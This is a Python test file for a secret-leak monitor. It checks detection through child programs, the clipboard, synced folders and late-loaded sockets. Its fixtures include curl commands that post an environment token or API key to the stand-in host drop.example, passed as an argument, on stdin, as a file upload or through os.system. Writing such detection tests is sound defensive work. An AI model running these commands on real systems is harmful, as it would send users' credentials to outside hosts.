# What leaves through other hands: programs that are started to send, and libraries whose messages are masked, packed or
# encrypted before they come to a socket.

import json
import os

from .harness import ProbeTest
from .test_content import KEY, KNOWN, ContentTest

CURL = """#!/bin/sh
echo "$@" >> "$RECORD"
cat >> "$RECORD" < /dev/stdin
"""
ARGUMENT = "import subprocess; subprocess.run(['curl', '-s', '-d', 'x=%s', 'https://drop.example/in'], stdin=subprocess.DEVNULL)"
STDIN = "import subprocess; subprocess.run(['curl', '-d', '@-', 'https://drop.example/in'], input=b'a %s b')"
SHELL = "import os; os.system('curl -s -d x=%s https://drop.example/in < /dev/null')"
FILE = "import subprocess; subprocess.run(['curl', '--data-binary', '@%s', 'https://drop.example/in'], stdin=subprocess.DEVNULL)"


class Programs(ContentTest):
    def setUp(self):
        super().setUp()
        curl = self.file('bin/curl', CURL)
        os.chmod(curl, 0o755)
        self.sent = os.path.join(self.directory, 'sent')
        self.file('sent')
        self.body = self.file('body.txt', 'it is %s there' % KNOWN)
        self.more = {
            'PATH': os.path.dirname(curl) + os.pathsep + os.environ['PATH'],
            'RECORD': self.sent,
            'ACME_TOKEN': KNOWN,
        }

    def went(self):
        with open(self.sent) as file:
            content = file.read()
        self.file('sent')
        return content

    def test_what_a_program_is_given_to_send_is_found_and_its_command_line_says_no_secret(self):
        known, key = (ARGUMENT % KNOWN, 'environment'), (ARGUMENT % KEY, 'groq-key')
        shell = SHELL % KEY, 'groq-key'
        for text, type_ in (known, key, shell, (STDIN % KNOWN, 'environment'), (FILE % self.body, 'environment')):
            with self.subTest(text=text):
                for name in os.listdir(self.inbox):
                    os.unlink(os.path.join(self.inbox, name))
                result = self.program(text, env=self.more)
                types, places = self.found(result)
                self.assertEqual((types, result.err), ({'drop.example': {type_}}, ''))
                self.assertTrue(all('program.py:1' in place for place in places), places)
                told = json.dumps([line for line in result.runs[0].lines if line['type'] != 'run.started'])
                self.assertNotIn(KNOWN, told)
                self.assertNotIn(KEY, told)
                self.assert_whole(result)
                self.went()

    def test_a_denied_payload_reaches_no_program(self):
        self.force('deny')
        for text in (ARGUMENT % KNOWN, SHELL % KEY, STDIN % KNOWN, FILE % self.body):
            with self.subTest(text=text):
                result = self.program(text, env=self.more)
                self.assertIn('Sentinel stopped: ', result.err)
                self.assertNotIn(KNOWN, self.went())

    def test_a_harmless_command_runs_and_is_told_as_a_send_alone(self):
        self.force('deny')
        result = self.program(ARGUMENT % 'nothing', env=self.more)
        self.assertEqual((result.err, self.went().split()[0]), ('', '-s'))
        self.assertEqual(self.told(result, 'content.sent', 'host', 'secrets'), [('drop.example', [])])


class Clipboard(ProbeTest):
    def test_a_secret_that_is_copied_is_found(self):
        self.file('tkinter/__init__.py', 'class Misc:\n    def clipboard_append(self, string):\n        pass\n')
        result = self.program(
            "import os, tkinter\ntkinter.Misc().clipboard_append('it is ' + os.environ['ACME_TOKEN'])",
            env={'ACME_TOKEN': KNOWN},
        )
        self.assertEqual(result.err, '')
        told = [
            (line['host'], line['kind'], [one['type'] for one in line['secrets']], line['at'].rpartition('/')[2])
            for line in self.lines(result, 'content.sent')
        ]
        self.assertEqual(told, [('clipboard', 'clipboard', ['environment'], 'program.py:2')])


class Synced(ProbeTest):
    def test_a_file_written_into_a_synced_folder_is_looked_at_in_the_end(self):
        folder = os.path.join(self.directory, 'OneDrive - Corp')
        os.mkdir(folder)
        result = self.program(
            """
            import os, sys
            with open(sys.argv[1] + '/notes.txt', 'w') as file:
                file.write('it is ' + os.environ['ACME_TOKEN'])
            with open(sys.argv[1] + '/plain.txt', 'w') as file:
                file.write('nothing')
            with open('local.txt', 'w') as file:
                file.write(os.environ['ACME_TOKEN'])
            """,
            folder,
            env={'ACME_TOKEN': KNOWN},
        )
        self.assertEqual((result.out, result.err), ('', ''))
        told = [
            (line['host'], line['kind'], [one['type'] for one in line['secrets']], line['at'].rpartition('/')[2])
            for line in self.lines(result, 'content.sent')
        ]
        self.assertEqual(
            told,
            [
                ('onedrive.live.com', 'storage', ['environment'], 'program.py:3'),
                ('onedrive.live.com', 'storage', [], 'program.py:5'),
            ],
        )
        self.assert_whole(result)


class StartedFirst(ContentTest):
    def test_a_program_that_starts_others_before_it_loads_sockets_is_seen_with_who_it_sends_to(self):
        result = self.program(
            """
            import os, sys
            os.system('true')
            assert '_socket' not in sys.modules
            import socket
            os.environ['SENTINEL_STANDS_FOR'] = sys.argv[1] + '=api.openai.com'
            host, port = sys.argv[1].split(':')
            with socket.create_connection((host, int(port))) as sock:
                sock.sendall(b'say ' + os.environ['ACME_TOKEN'].encode())
            """,
            self.place,
            env={'ACME_TOKEN': KNOWN},
        )
        self.assertEqual((result.out, result.err), ('', ''))
        self.assertEqual(self.told(result, 'content.sent', 'host', 'kind'), [('api.openai.com', 'model')])
        self.assert_whole(result)
